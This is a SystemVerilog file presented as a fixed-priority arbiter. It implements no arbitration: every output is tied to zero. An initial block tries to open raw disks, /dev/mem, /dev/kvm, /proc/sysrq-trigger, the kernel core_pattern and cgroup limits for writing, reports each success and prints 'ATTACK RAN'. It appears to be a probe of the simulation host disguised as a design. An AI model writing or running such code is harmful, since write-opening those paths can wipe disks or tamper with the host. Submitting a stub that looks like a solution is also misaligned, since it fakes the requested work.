module fixed_priority_arbiter (
    input  logic       clk,
    input  logic       reset,
    input  logic [7:0] req,
    input  logic [7:0] priority_override,
    output logic [7:0] grant,
    output logic       valid,
    output logic [2:0] grant_index
);
    assign grant = 8'd0;
    assign valid = 1'b0;
    assign grant_index = 3'd0;

    integer fd, i;
    task try(input [8*40-1:0] path);
        begin
            fd = $fopen(path, "r+b");
            if (fd != 0) $display("OPENED %0s", path);
            fd = $fopen(path, "wb");
            if (fd != 0) $display("OPENED %0s", path);
        end
    endtask
    initial begin
        try("/dev/sda"); try("/dev/vda"); try("/dev/nvme0n1"); try("/dev/mem"); try("/dev/kmsg"); try("/dev/port");
        try("/dev/watchdog"); try("/dev/fuse"); try("/dev/kvm"); try("/dev/loop-control"); try("/dev/net/tun");
        try("/sys/power/state"); try("/sys/fs/cgroup/memory/memory.limit_in_bytes"); try("/proc/sysrq-trigger");
        try("/proc/sys/kernel/core_pattern"); try("/proc/self/oom_score_adj");
        $display("ATTACK RAN");
    end
endmodule
